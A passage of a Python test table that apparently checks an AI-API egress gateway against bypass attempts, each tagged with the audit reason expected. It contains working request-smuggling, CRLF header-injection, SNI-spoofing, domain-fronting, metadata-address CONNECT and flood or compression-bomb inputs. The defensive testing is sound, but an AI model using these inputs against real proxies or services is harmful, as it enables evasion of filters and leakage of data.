"""The table of attempts to get past the gateway over its own ports. The page docs/bypass-resistance.md lists it.

An attempt carries its mark in what it wants to bring out, so that a capture upstream can be searched for it.
Attempts that only hide text hide the word LEAK, which the gateway under test refuses wherever it reads it.
"""

import codecs
import gzip
import json
import os
import socket
import struct
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.settings
import zstandard
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame

import rawclient
from proxy.door import (
    AI,
    CHAT,
    ECH,
    LEAK,
    OTHER_AI,
    SEGMENT_PAUSE_S,
    UNLISTED,
    Door,
    Try,
    after_connect,
    call,
    chat,
    client_hello,
    connecting,
    h2_fields,
    h2_with,
    head,
    inside,
    over_h2,
    plain,
    saying_hello,
    server_names,
    talk,
)
from rawclient import Talk, post


@dataclass(frozen=True)
class Attempt:
    """reason: reason or detail of the audit event that must tell of it; empty where none is due.

    disarmed: the call is in order and may go on without this piece of it, which may not be found upstream.
    beside: a sound call goes with it, and passes.
    """

    id: str
    run: Try
    reason: str
    disarmed: bytes = b""
    beside: bool = False


def said(mark: str, *lines: str, body: bytes | None = None, length: bool = True) -> bytes:
    """A call whose head is written line by line."""
    body = chat(mark) if body is None else body
    sized = [f"Content-Length: {len(body)}"] if length else []
    return (
        head(*lines, "Authorization: Bearer sk-test-EXAMPLE", "Content-Type: application/json", *sized) + body
    )


START = f"POST {CHAT} HTTP/1.1"
HOST = f"Host: {AI}"


def with_head(*lines: str, length: bool = True) -> Try:
    """A call with these head lines instead of the usual request line and Host."""
    return inside(lambda mark: said(mark, *(line.replace("%MARK", mark) for line in lines), length=length))


def with_lines(*lines: str) -> Try:
    """A call in order but for these lines more."""
    return with_head(START, HOST, *lines)


def with_body(make: Callable[[str], bytes], *headers: str) -> Try:
    """A call whose body is make(mark), with these headers more."""
    return inside(lambda mark: post(CHAT, make(mark), AI, *headers))


def hidden(mark: str) -> bytes:
    return chat(mark, LEAK)


def chunked(*chunks: bytes, end: bytes = b"0\r\n\r\n", size: bytes = b"%x") -> bytes:
    return b"".join(size % len(c) + b"\r\n" + c + b"\r\n" for c in chunks) + end


def with_chunks(make: Callable[[bytes], bytes], *lines: str, wait_s: float | None = None) -> Try:
    """A call whose body is written as make(body) under Transfer-Encoding: chunked."""
    begin = (START, HOST, "Transfer-Encoding: chunked", *lines)
    return inside(lambda mark: said(mark, *begin, body=b"", length=False) + make(chat(mark)), wait_s=wait_s)


def zipped(mark: str) -> bytes:
    return gzip.compress(hidden(mark))


def to_own(host: str) -> Try:
    """A plain HTTP request for a port of the gateway's machine."""

    def run(door: Door, mark: str) -> Talk:
        where = f"{host}:{door.own}"
        return talk(door.dial(), said(mark, f"POST http://{where}/ HTTP/1.1", f"Host: {where}"))

    return run


def split_first(*sizes: int, crlf: bytes = b"") -> Try:
    """A call inside TLS whose first bytes come in records of these sizes."""

    def cut(mark: str) -> tuple[bytes, ...]:
        data, pieces = crlf + call(mark, text=LEAK), []
        for size in sizes:
            pieces.append(data[:size])
            data = data[size:]
        return (*pieces, data)

    return inside(cut)


def hello_in_segments(*sizes: int, names: bytes = AI.encode()) -> Try:
    """A ClientHello whose first bytes come in segments of these sizes, without a CONNECT in front of TLS."""

    def run(door: Door, mark: str) -> Talk:
        data, pieces = client_hello([names]), []
        for size in sizes:
            pieces.append(data[:size])
            data = data[size:]
        return talk(door.dial(), *pieces, data)

    return run


def tls_in_tls(door: Door, mark: str) -> Talk:
    """A second handshake inside the first one, for a name that would be tunnelled."""
    return talk(door.tls(), client_hello([UNLISTED.encode()]) + b"\0\0\r\n\r\n")


def tls_to_the_proxy(door: Door, mark: str) -> Talk:
    """TLS where a CONNECT is due."""
    return talk(door.dial(), client_hello([AI.encode()]))


def h2_preface(where: str) -> Try:
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
    if where == "proxy":
        return plain(preface)
    return inside(lambda mark: preface) if where == "tls" else after_connect(lambda mark: preface)


def second_request(second: Callable[[str], bytes]) -> Try:
    """A sound call and, in the same segment, another one that must be judged on its own."""
    return inside(lambda mark: call("a-sound-one") + second(mark), linger_s=0.5)


def other_names_in_hello(door: Door, mark: str) -> Talk:
    return saying_hello(connect=UNLISTED, lists=[server_names([(0, AI.encode()), (0, UNLISTED.encode())])])(
        door, mark
    )


def slow_head(where: str) -> Try:
    """Say a head a byte at a time for longer than the policy allows; the test shortens that."""

    def run(door: Door, mark: str) -> Talk:
        sock = door.dial() if where == "connect" else door.tls() if where == "tls" else door.tunnel()
        data = (
            call(mark)
            if where == "tls"
            else b"CONNECT " + mark.encode()
            if where == "connect"
            else b"\x16\x03"
        )
        try:
            for byte in data[: 60 if where == "tls" else 40]:
                sock.sendall(bytes([byte]))
                time.sleep(0.05)
        except OSError as problem:
            return Talk(0, b"", b"", type(problem).__name__)
        return talk(sock)

    return run


def h2_slow(door: Door, mark: str) -> Talk:
    """HTTP/2 that opens no stream."""
    sock = door.tls(alpn=["h2"])
    return talk(sock, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0")


def pipelined_flood(door: Door, mark: str) -> Talk:
    """A sound call, and megabytes behind it before it is answered."""
    slow = post(CHAT, json.dumps({"model": "slow-900", "messages": []}).encode(), AI)
    return talk(door.tls(), slow, *[mark.encode() * 100_000] * 3, wait_s=2.0)


def h2_flood(kind: str, number_of: int = 150, wait_s: float = 1.0) -> Try:
    """Streams without end, streams that are reset at once, a header block that never ends, or bare pings.

    wait_s: for the gateway to close; where it is sure to, a busy one may need long.
    """

    def run(door: Door, mark: str) -> Talk:
        config = h2.config.H2Configuration(client_side=True, header_encoding=False)
        conn = h2.connection.H2Connection(config)
        conn.initiate_connection()
        sock = door.tls(alpn=["h2"])
        said = conn.data_to_send()
        for number in range(number_of):
            stream = 2 * number + 1
            if kind == "pings":
                said += PingFrame(0, opaque_data=b"12345678").serialize()
                continue
            if kind == "headers":
                block = conn.encoder.encode(h2_fields(mark) if not number else [(b"x-note", mark.encode())])
                frame = HeadersFrame(1) if not number else ContinuationFrame(1)
                frame.data = block
                said += frame.serialize()
                continue
            conn.remote_settings[h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS] = 1000
            conn.remote_settings.acknowledge()
            conn.send_headers(stream, h2_fields(mark), end_stream=False)
            if kind == "resets":
                conn.reset_stream(stream)
            said += conn.data_to_send()
        return talk(sock, said, wait_s=wait_s)

    return run


def never_finished(door: Door, mark: str) -> Talk:
    """A call for another host whose body is announced and never sent."""
    sock = door.tls()
    sock.sendall(call(mark, host=OTHER_AI)[:-20])
    time.sleep(SEGMENT_PAUSE_S)
    sock.close()
    return Talk(0, b"", b"")


def many_connections(door: Door, mark: str) -> Talk:
    """Ten connections more than one client may hold, the last of which calls."""
    held: list[socket.socket] = []
    try:
        for _ in range(door.most + 2):
            held.append(door.dial())
        time.sleep(0.1)
        return connecting(f"{AI}:443")(door, mark)
    except OSError as problem:
        return Talk(0, b"", b"", type(problem).__name__)
    finally:
        for sock in held:
            sock.close()


def nested(depth: int) -> bytes:
    return b'{"model":"m","messages":[{"role":"user","content":' + b"[" * depth + b"]" * depth + b"}]}"


def json_of(template: str) -> Try:
    """A JSON body; %T stands for the mark with the hidden word."""
    return with_body(lambda mark: template.replace("%T", f"{mark} {LEAK}").encode())


def bomb(mark: str) -> bytes:
    return gzip.compress(b'{"a":"' + b" " * 30_000_000 + chat(mark) + b'"}')


def reverse_plain(door: Door, mark: str) -> Talk:
    sock = socket.create_connection(("127.0.0.1", door.reverse), timeout=door.patience_s)
    return talk(sock, call(mark, host="127.0.0.1", path="/v1/threads"))


def reverse_tls(sni: str, **changed: str) -> Try:
    def run(door: Door, mark: str) -> Talk:
        sock = socket.create_connection(("127.0.0.1", door.reverse), timeout=door.patience_s)
        try:
            return talk(rawclient.tls(sock, sni, door.ca), call(mark, **changed))
        except OSError as problem:
            return Talk(0, b"", b"", type(problem).__name__)

    return run


def reverse_bytes(*pieces: bytes) -> Try:
    def run(door: Door, mark: str) -> Talk:
        sock = socket.create_connection(("127.0.0.1", door.reverse), timeout=door.patience_s)
        return talk(sock, *(p.replace(b"%MARK", mark.encode()) for p in pieces))

    return run


FIRST_BYTES = [
    Attempt("first-segment-1-byte-tls", hello_in_segments(1), "framing_line_ends"),
    Attempt("first-segment-2-bytes-tls", hello_in_segments(2), "framing_line_ends"),
    Attempt("first-record-1-byte", split_first(1), "secrets.found"),
    Attempt("first-record-2-bytes", split_first(2), "secrets.found"),
    Attempt("first-record-4-bytes", split_first(4), "secrets.found"),
    Attempt("first-records-1-1-1", split_first(1, 1, 1), "secrets.found"),
    Attempt("leading-crlf-in-tls", split_first(2, crlf=b"\r\n"), "not_http"),
    Attempt("leading-crlf-to-the-proxy", plain(lambda mark: b"\r\n" + head(f"CONNECT {AI}:443 HTTP/1.1", f"X-Note: {mark}")), "framing_request_line"),
    Attempt("leading-space", inside(lambda mark: b" " + call(mark)), "not_http"),
    Attempt("raw-tcp-in-connect", after_connect(lambda mark: b"\x01\x02\x03" + mark.encode()), "not_http"),
    Attempt("raw-tcp-1-byte-first", after_connect(lambda mark: (b"\x01", b"\x02" + mark.encode())), "not_http"),
    Attempt("raw-tcp-in-tls", inside(lambda mark: b"\x00\x00\x00\x10" + mark.encode()), "not_http"),
    Attempt("ssh-banner-in-connect", after_connect(lambda mark: b"SSH-2.0-OpenSSH_9.2 " + mark.encode() + b"\r\n\r\n"), "framing_request_line"),
    Attempt("ssh-banner-to-the-proxy", plain(lambda mark: head(f"SSH-2.0-{mark}")), "framing_request_line"),
    Attempt("smtp-in-connect", after_connect(lambda mark: b"EHLO " + mark.encode() + b"\r\n\r\n"), "framing_request_line"),
    Attempt("smtp-in-tls", inside(lambda mark: b"EHLO " + mark.encode() + b"\r\n\r\n"), "framing_request_line"),
    Attempt("lower-case-method", with_head(f"post {CHAT} HTTP/1.1", HOST), "not_http"),
    Attempt("odd-method", with_head(f"P0ST {CHAT} HTTP/1.1", HOST), "not_http"),
    Attempt("method-with-symbols", with_head(f"POS!T {CHAT} HTTP/1.1", HOST), "framing_request_line"),
    Attempt("tls-in-tls", tls_in_tls, "framing_request_line"),
    Attempt("tls-to-the-proxy", tls_to_the_proxy, "framing_line_ends"),
    Attempt("socks4", plain(lambda mark: b"\x04\x01\x01\xbb\x01\x02\x03\x04" + mark.encode() + b"\0"), "framing_line_ends"),
    Attempt("socks5", plain(b"\x05\x01\x00"), "framing_line_ends"),
    Attempt("h2-prior-knowledge-to-the-proxy", h2_preface("proxy"), "framing_request_line"),
    Attempt("h2-prior-knowledge-in-connect", h2_preface("connect"), "framing_request_line"),
    Attempt("h2-prior-knowledge-in-tls", h2_preface("tls"), "framing_request_line"),
    Attempt("h2c-upgrade", with_lines("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQCAAAA"), "transport.upgrade"),
    Attempt("websocket-upgrade", inside(lambda mark: head(f"GET /v1/live/sessions?model={mark} HTTP/1.1", HOST, "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==")), "transport.upgrade"),
    Attempt("garbage-in-tls", inside(lambda mark: b"\xff" + os.urandom(4000) + b"\r\n\r\n" + mark.encode()), "not_http"),
    Attempt("garbage-to-the-proxy", plain(lambda mark: mark.encode() + bytes(range(256)) * 8 + b"\r\n\r\n"), "framing_request_line"),
    Attempt("plain-http-in-connect", after_connect(call), "transport.plain_http"),
    Attempt("plain-http-through-the-proxy", plain(lambda mark: said(mark, f"POST http://{AI}{CHAT} HTTP/1.1", HOST)), "transport.plain_http"),
    Attempt("https-target-without-connect", plain(lambda mark: said(mark, f"POST https://{AI}{CHAT} HTTP/1.1", HOST)), "transport.plain_http"),
    Attempt("origin-form-to-the-proxy", plain(lambda mark: said(mark, START, HOST)), "transport.plain_http"),
    Attempt("plain-in-connect-to-ai-host-unlisted", after_connect(lambda mark: said(mark, START, f"Host: {UNLISTED}")), "transport.plain_http"),
    Attempt("plain-in-connect-to-unlisted-host-ai", after_connect(lambda mark: said(mark, START, HOST), connect=UNLISTED), "transport.plain_http"),
    Attempt("plain-relay-host-of-ai", plain(lambda mark: said(mark, f"POST http://{UNLISTED}:443/ HTTP/1.1", f"Host: {AI}:443")), "transport.plain_http"),
    Attempt("plain-relay-target-of-ai", plain(lambda mark: said(mark, f"POST http://{AI}:443{CHAT} HTTP/1.1", f"Host: {UNLISTED}:443")), "transport.plain_http"),
    Attempt("plain-relay-then-ai", plain(lambda mark: head(f"GET http://{UNLISTED}:443/ HTTP/1.1", f"Host: {UNLISTED}:443") + said(mark, f"POST http://{AI}:443{CHAT} HTTP/1.1", f"Host: {AI}:443"), linger_s=0.5), "transport.plain_http", beside=True),
    Attempt("plain-relay-upgrade", plain(lambda mark: said(mark, f"GET http://{UNLISTED}:443/ HTTP/1.1", f"Host: {UNLISTED}:443", "Connection: Upgrade", "Upgrade: websocket")), "transport.plain_http"),
    Attempt("plain-relay-to-an-address", to_own("127.0.0.1"), "transport.plain_http"),
    Attempt("plain-relay-to-localhost", to_own("localhost"), "tunnelled"),
    Attempt("plain-http-to-other-host", plain(lambda mark: said(mark, f"POST http://{UNLISTED}/upload HTTP/1.1", f"Host: {UNLISTED}")), "transport.plain_http"),
]  # fmt: skip

NAMES = [
    Attempt("sni-upper-case", inside(lambda mark: call(mark, text=LEAK), sni="API.OpenAI.com"), "secrets.found"),
    Attempt("sni-trailing-dot", inside(lambda mark: call(mark, text=LEAK), sni="api.openai.com."), "secrets.found"),
    Attempt("sni-absent", inside(lambda mark: call(mark, text=LEAK), sni=None), "secrets.found"),
    Attempt("sni-empty", saying_hello(b""), "bad_name"),
    Attempt("sni-empty-list", saying_hello(lists=[b"\0\0"]), "bad_name"),
    Attempt("sni-ipv4", saying_hello(b"127.0.0.1"), "name_mismatch"),
    Attempt("sni-utf8", saying_hello("api.openаi.com".encode()), "bad_name"),
    Attempt("sni-full-width", saying_hello("ａｐｉ.openai.com".encode()), "bad_name"),
    Attempt("sni-punycode-look-alike", saying_hello(b"api.xn--openi-3ve.com"), "name_mismatch"),
    Attempt("sni-nul", saying_hello(b"files.example.com\0.api.openai.com"), "bad_name"),
    Attempt("sni-long", saying_hello(b"a" * 60 + b"." + b".".join([b"b" * 60] * 5)), "bad_name"),
    Attempt("sni-two-names", other_names_in_hello, "bad_name"),
    Attempt("sni-two-extensions", saying_hello(connect=UNLISTED, lists=[server_names([(0, UNLISTED.encode())]), server_names([(0, AI.encode())])]), "bad_name"),
    Attempt("sni-other-name-type", saying_hello(connect=UNLISTED, lists=[server_names([(1, AI.encode())])]), "bad_name"),
    Attempt("sni-other-than-connect", inside(call, connect=UNLISTED, sni=AI), "name_mismatch"),
    Attempt("sni-unlisted-connect-ai", inside(call, connect=AI, sni=UNLISTED), "name_mismatch"),
    Attempt("ech-public-name", inside(call, connect="cloudflare-ech.com", sni="cloudflare-ech.com"), "hidden_name"),
    Attempt("ech-public-name-below", inside(call, connect="a.cloudflare-ech.com", sni="a.cloudflare-ech.com"), "hidden_name"),
    Attempt("ech-extension", saying_hello(b"cloudflare-ech.com", connect="cloudflare-ech.com", extra=ECH), "hidden_name"),
    Attempt("connect-ipv4", connecting("127.0.0.1:%OWN", sni=UNLISTED), "address_instead_of_name"),
    Attempt("connect-ipv4-short", connecting("127.1:%OWN", sni=UNLISTED), "address_instead_of_name"),
    Attempt("connect-ipv4-hex", connecting("0x7f000001:%OWN", sni=UNLISTED), "address_instead_of_name"),
    Attempt("connect-ipv4-decimal", connecting("2130706433:%OWN", sni=UNLISTED), "address_instead_of_name"),
    Attempt("connect-ipv4-octal", connecting("0177.0.0.1:%OWN", sni=UNLISTED), "address_instead_of_name"),
    Attempt("connect-ipv4-dot", connecting("127.0.0.1.:%OWN", sni=UNLISTED), "address_instead_of_name"),
    Attempt("connect-ipv6-loopback", connecting("[::1]:%OWN", sni=UNLISTED), "address_instead_of_name"),
    Attempt("connect-ipv6-mapped", connecting("[::ffff:127.0.0.1]:%OWN", sni=UNLISTED), "address_instead_of_name"),
    Attempt("connect-metadata-address", connecting("169.254.169.254:%OWN", sni=UNLISTED), "address_instead_of_name"),
    Attempt("connect-localhost", connecting("localhost:%OWN"), "tunnelled"),
    Attempt("connect-localhost-dot", connecting("localhost.:%OWN"), "tunnelled"),
    Attempt("connect-other-port", connecting(f"{AI}:8443"), "port"),
    Attempt("connect-port-22", connecting(f"{UNLISTED}:22"), "port"),
    Attempt("connect-port-80", connecting(f"{AI}:80"), "port"),
    Attempt("connect-port-0", connecting(f"{AI}:0"), "framing_head"),
    Attempt("connect-userinfo", connecting(f"me@{AI}:443", sni=AI), "framing_head"),
    Attempt("connect-userinfo-other-host", connecting(f"{UNLISTED}:443@{AI}:443", sni=AI), "framing_head"),
    Attempt("connect-percent-escape", connecting("api.openai%2ecom:443", sni=AI), "framing_head"),
    Attempt("connect-look-alike-sni-ai", connecting("api-openai.com:443", sni=AI), "name_mismatch"),
    Attempt("connect-with-body", lambda door, mark: talk(door.dial(), head(f"CONNECT {AI}:443 HTTP/1.1", f"Host: {AI}:443", "Transfer-Encoding: chunked") + chunked(mark.encode())), "connect_body"),
    Attempt("connect-inside-tls", inside(lambda mark: head(f"CONNECT {OTHER_AI}:443 HTTP/1.1", f"Host: {OTHER_AI}:443") + call(mark)), "not_whole"),
    Attempt("connect-inside-connect", after_connect(lambda mark: head(f"CONNECT {OTHER_AI}:443 HTTP/1.1", f"Host: {OTHER_AI}:443") + call(mark)), "not_whole"),
]  # fmt: skip

FRONTING = [
    Attempt("host-other-than-sni", with_head(START, f"Host: {OTHER_AI}"), "transport.host_mismatch"),
    Attempt("host-unlisted", with_head(START, f"Host: {UNLISTED}"), "transport.host_mismatch"),
    Attempt("host-twice-other-first", with_head(START, f"Host: {OTHER_AI}", HOST), "framing_repeated_host"),
    Attempt("host-twice-other-last", with_head(START, HOST, f"Host: {OTHER_AI}"), "framing_repeated_host"),
    Attempt("host-twice-the-same", with_head(START, HOST, HOST), "framing_repeated_host"),
    Attempt("host-missing", with_head(START), "framing_no_host"),
    Attempt("host-empty", with_head(START, "Host:"), "transport.host_mismatch"),
    Attempt("host-with-other-port", with_head(START, f"{HOST}:8443"), "transport.host_mismatch"),
    Attempt("host-with-userinfo", with_head(START, f"Host: {OTHER_AI}@{AI}"), "transport.host_mismatch"),
    Attempt("host-list", with_head(START, f"Host: {AI}, {OTHER_AI}"), "transport.host_mismatch"),
    Attempt("absolute-form-other-host", with_head(f"POST https://{OTHER_AI}{CHAT} HTTP/1.1", HOST), "transport.host_mismatch"),
    Attempt("absolute-form-unlisted", with_head(f"POST https://{UNLISTED}/%MARK HTTP/1.1", f"Host: {UNLISTED}"), "transport.host_mismatch"),
    Attempt("absolute-form-http", with_head(f"POST http://{OTHER_AI}{CHAT} HTTP/1.1", HOST), "transport.host_mismatch"),
    Attempt("x-forwarded-host", with_lines(f"X-Forwarded-Host: {OTHER_AI}"), "", disarmed=b"x-forwarded-host"),
    Attempt("forwarded-host", with_lines(f"Forwarded: host={OTHER_AI}"), "", disarmed=b"forwarded"),
    Attempt("x-original-url", with_lines("X-Original-URL: /v1/threads"), "", disarmed=b"x-original-url"),
    Attempt("x-rewrite-url", with_lines("X-Rewrite-URL: /v1/threads"), "", disarmed=b"x-rewrite-url"),
    Attempt("x-http-host-override", with_lines(f"X-HTTP-Host-Override: {OTHER_AI}"), "", disarmed=b"x-http-host-override"),
    Attempt("x-host", with_lines(f"X-Host: {OTHER_AI}"), "", disarmed=b"x-host"),
    Attempt("h2-authority-other", h2_with(authority=OTHER_AI.encode()), "transport.host_mismatch"),
    Attempt("h2-authority-missing", h2_with(authority=None), "framing_http2"),
    Attempt("h2-host-other", h2_with((b"host", OTHER_AI.encode())), "framing_http2"),
    Attempt("h2-host-twice", h2_with((b"host", AI.encode()), (b"host", OTHER_AI.encode())), "framing_http2"),
    Attempt("h2-host-twice-the-same", h2_with((b"host", AI.encode()), (b"host", AI.encode())), "framing_http2"),
    Attempt("h2-authority-twice", over_h2(lambda mark: ([*h2_fields(mark)[:4], (b":authority", OTHER_AI.encode()), *h2_fields(mark)[4:]], chat(mark))), "framing_http2"),
    Attempt("h2-host-instead-of-authority", h2_with((b"host", OTHER_AI.encode()), authority=None), "transport.host_mismatch"),
    Attempt("reverse-sni-of-other-host", reverse_tls(UNLISTED), "name_mismatch"),
    Attempt("reverse-host-of-other-ai", reverse_tls(AI, host=OTHER_AI, path="/v1/threads"), "access.unknown_endpoint"),
    Attempt("reverse-absolute-form", reverse_tls(AI, path=f"https://{OTHER_AI}{CHAT}"), "transport.host_mismatch"),
    Attempt("reverse-unknown-endpoint", reverse_plain, "access.unknown_endpoint"),
    Attempt("reverse-raw-tcp", reverse_bytes(b"\x01\x02\x03%MARK"), "not_http"),
    Attempt("reverse-connect", reverse_bytes(head(f"CONNECT {OTHER_AI}:443 HTTP/1.1", f"Host: {OTHER_AI}") + b"%MARK"), "not_whole"),
]  # fmt: skip

FRAMING = [
    Attempt("cl-and-te", with_chunks(lambda b: chunked(b), "Content-Length: 5"), "framing_two_lengths"),
    Attempt("te-then-cl-0", with_chunks(lambda b: chunked(b), "Content-Length: 0"), "framing_two_lengths"),
    Attempt("two-content-lengths", with_lines("Content-Length: 3"), "framing_repeated_content_length"),
    Attempt("content-length-list", with_head(START, HOST, "Content-Length: 3, 300", length=False), "framing_content_length"),
    Attempt("content-length-plus", with_head(START, HOST, "Content-Length: +30", length=False), "framing_content_length"),
    Attempt("content-length-minus", with_head(START, HOST, "Content-Length: -1", length=False), "framing_content_length"),
    Attempt("content-length-hex", with_head(START, HOST, "Content-Length: 0x1f", length=False), "framing_content_length"),
    Attempt("content-length-empty", with_head(START, HOST, "Content-Length:", length=False), "framing_content_length"),
    Attempt("te-gzip-chunked", inside(lambda mark: said(mark, START, HOST, "Transfer-Encoding: gzip, chunked", body=chunked(zipped(mark)), length=False)), "framing_transfer_encoding"),
    Attempt("te-identity", with_head(START, HOST, "Transfer-Encoding: identity", length=False), "framing_transfer_encoding"),
    Attempt("te-unknown", with_head(START, HOST, "Transfer-Encoding: xchunked", length=False), "framing_transfer_encoding"),
    Attempt("te-twice", with_chunks(lambda b: chunked(b), "Transfer-Encoding: identity"), "framing_repeated_transfer_encoding"),
    Attempt("te-vertical-tab", with_head(START, HOST, "Transfer-Encoding: \x0bchunked", length=False), "framing_header_line"),
    Attempt("te-space-before-colon", with_head(START, HOST, "Transfer-Encoding : chunked", length=False), "framing_header_line"),
    Attempt("te-in-http-1.0", with_head(f"POST {CHAT} HTTP/1.0", HOST, "Transfer-Encoding: chunked", length=False), "framing_request_line"),
    Attempt("obs-fold", with_lines("X-Note: a", " folded-%MARK"), "framing_header_line"),
    Attempt("obs-fold-of-te", with_head(START, HOST, "Transfer-Encoding:", " chunked", length=False), "framing_transfer_encoding"),
    Attempt("header-without-colon", with_lines("X-Note"), "framing_header_line"),
    Attempt("header-without-name", with_lines(": value"), "framing_header_line"),
    Attempt("bare-lf-line", inside(lambda mark: call(mark).replace(b"\r\nAuthorization", b"\nAuthorization")), "framing_header_line"),
    Attempt("bare-lf-everywhere", inside(lambda mark: call(mark).replace(b"\r\n", b"\n")), "framing_line_ends"),
    Attempt("bare-lf-before-the-end", inside(lambda mark: call(mark).replace(b"\r\n\r\n", b"\n\r\n")), "framing_line_ends"),
    Attempt("bare-lf-hides-a-fold", inside(lambda mark: call(mark, "X-Note: a\r\n b").replace(b"\r\n\r\n", b"\n\r\n")), "framing_line_ends"),
    Attempt("bare-cr", with_lines("X-Note: a\rHost: x"), "framing_header_line"),
    Attempt("nul-in-header", with_lines("X-Note: a\0b"), "framing_header_line"),
    Attempt("nul-in-target", with_head(f"POST {CHAT}\0 HTTP/1.1", HOST), "framing_request_line"),
    Attempt("space-in-target", with_head(f"POST {CHAT} /x HTTP/1.1", HOST), "framing_request_line"),
    Attempt("tab-after-method", with_head(f"POST\t{CHAT} HTTP/1.1", HOST), "framing_request_line"),
    Attempt("http-1.0", with_head(f"POST {CHAT} HTTP/1.0", HOST), "framing_request_line"),
    Attempt("http-0.9", inside(lambda mark: f"GET /{mark}\r\n\r\n".encode()), "framing_request_line"),
    Attempt("http-2.0-in-text", with_head(f"POST {CHAT} HTTP/2.0", HOST), "framing_request_line"),
    Attempt("http-1.2", with_head(f"POST {CHAT} HTTP/1.2", HOST), "framing_request_line"),
    Attempt("header-flood", with_lines(*(f"X-{n}: %MARK" for n in range(150))), "framing_too_many_headers"),
    Attempt("huge-head", with_lines("X-Note: " + "a" * 70_000), "framing_head_too_large"),
    Attempt("huge-head-without-end", inside(lambda mark: f"{START}\r\n{HOST}\r\nX-Note: {mark}".encode() + b"a" * 70_000), "framing_head_too_large"),
    Attempt("huge-target", with_head(f"POST {CHAT}?{'a' * 9000} HTTP/1.1", HOST), "framing_request_line"),
    Attempt("trailers", with_chunks(lambda b: chunked(b, end=b"0\r\nX-Note: late\r\n\r\n")), "transport.trailers"),
    Attempt("trailers-announced", with_chunks(lambda b: chunked(b, end=b"0\r\nX-Late: 1\r\n\r\n"), "Trailer: X-Late"), "transport.trailers"),
    Attempt("chunk-extension", with_chunks(lambda b: chunked(b, size=b"%x;note=EXTENSION")), "", disarmed=b"EXTENSION"),
    Attempt("chunk-size-sign", with_chunks(lambda b: chunked(b, size=b"+%x")), "framing_body"),
    Attempt("chunk-size-0x", with_chunks(lambda b: chunked(b, size=b"0x%x")), "framing_body"),
    Attempt("chunk-size-wrong", with_chunks(lambda b: b"3\r\n" + b + b"\r\n0\r\n\r\n"), "framing_body"),
    Attempt("chunk-without-crlf", with_chunks(lambda b: b"%x\r\n%s0\r\n\r\n" % (len(b), b)), "framing_body"),
    Attempt("chunk-bare-lf", with_chunks(lambda b: b"%x\n%s\n0\n\n" % (len(b), b), wait_s=0.3), "not_whole"),
    Attempt("chunk-size-huge", with_chunks(lambda b: b"f" * 40 + b"\r\n" + b), "framing_body"),
    Attempt("request-in-a-body", inside(lambda mark: post(CHAT, chat(mark) + call(mark), AI)), "wire.json.trailing_data"),
    Attempt("pipelined-bad-host", second_request(lambda mark: call(mark, host=OTHER_AI)), "transport.host_mismatch", beside=True),
    Attempt("pipelined-unknown-endpoint", second_request(lambda mark: call(mark, path="/v1/threads")), "access.unknown_endpoint", beside=True),
    Attempt("pipelined-hidden-text", second_request(lambda mark: call(mark, text=LEAK)), "secrets.found", beside=True),
    Attempt("pipelined-raw-bytes", second_request(lambda mark: b"\x01\x02\x03" + mark.encode() + b"\r\n\r\n"), "framing_request_line", beside=True),
    Attempt("expect-unknown", with_lines("Expect: 200-maybe"), "", disarmed=b"expect"),
    Attempt("expect-twice", with_lines("Expect: 100-continue", "Expect: 100-continue"), "framing_repeated_expect"),
    Attempt("h2-trailers", over_h2(lambda mark: (h2_fields(mark), chat(mark)), trailers=[(b"x-note", b"late")]), "transport.trailers"),
    Attempt("h2-transfer-encoding", h2_with((b"transfer-encoding", b"chunked")), "framing_http2"),
    Attempt("h2-connection-header", h2_with((b"connection", b"close")), "framing_http2"),
    Attempt("h2-content-length-wrong", h2_with((b"content-length", b"3")), "framing_http2"),
    Attempt("h2-crlf-in-value", h2_with((b"x-note", b"a\r\nx-other: b")), "framing_http2"),
    Attempt("h2-crlf-in-name", h2_with((b"x-note: a\r\nx-other", b"b")), "framing_http2"),
    Attempt("h2-nul-in-value", h2_with((b"x-note", b"a\0b")), "framing_http2"),
    Attempt("h2-upper-case-name", h2_with((b"X-Note", b"a")), "framing_http2"),
    Attempt("h2-space-in-name", h2_with((b"content-length ", b"3")), "framing_http2"),
    Attempt("h2-crlf-in-path", h2_with(path=CHAT.encode() + b" HTTP/1.1\r\nx-note: a"), "framing_http2"),
    Attempt("h2-crlf-in-method", h2_with(method=b"POST / HTTP/1.1\r\nx: y"), "framing_http2"),
    Attempt("h2-connect", h2_with(method=b"CONNECT", path=None, scheme=None, authority=b"files.example.com:443"), "framing_http2"),
    Attempt("h2-extended-connect", h2_with(method=b"CONNECT", protocol=b"websocket"), "framing_http2"),
    Attempt("h2-scheme-http", h2_with(scheme=b"http"), "", disarmed=b"http://"),
    Attempt("h2-path-absolute", h2_with(path=b"https://" + OTHER_AI.encode() + CHAT.encode()), "access.unknown_endpoint"),
    Attempt("h2-path-empty", h2_with(path=b""), "framing_http2"),
    Attempt("h2-pseudo-after-field", over_h2(lambda mark: ([*h2_fields(mark)[1:], (b":method", b"POST")], chat(mark))), "framing_http2"),
    Attempt("h2-header-list-huge", h2_with(*((b"x-%d" % n, b"a" * 1000) for n in range(90))), "framing_http2"),
    Attempt("h2-header-flood", h2_with(*((b"x-%d" % n, b"a") for n in range(150))), "transport.head_too_large"),
]  # fmt: skip

CODINGS = [
    Attempt("gzip-that-hides", with_body(zipped, "Content-Encoding: gzip"), "secrets.found"),
    Attempt("x-gzip", with_body(zipped, "Content-Encoding: x-gzip"), "wire.coding.unknown"),
    Attempt("codings-stacked", with_body(lambda mark: zlib.compress(zipped(mark)), "Content-Encoding: gzip, deflate"), "wire.coding.stacked"),
    Attempt("coding-header-twice", with_body(zipped, "Content-Encoding: gzip", "Content-Encoding: identity"), "framing_repeated_content_encoding"),
    Attempt("gzip-second-member", with_body(lambda mark: gzip.compress(chat(mark)) + gzip.compress(b" " + hidden(mark)), "Content-Encoding: gzip"), "wire.coding.trailing"),
    Attempt("gzip-trailing-bytes", with_body(lambda mark: gzip.compress(chat(mark)) + hidden(mark), "Content-Encoding: gzip"), "wire.coding.trailing"),
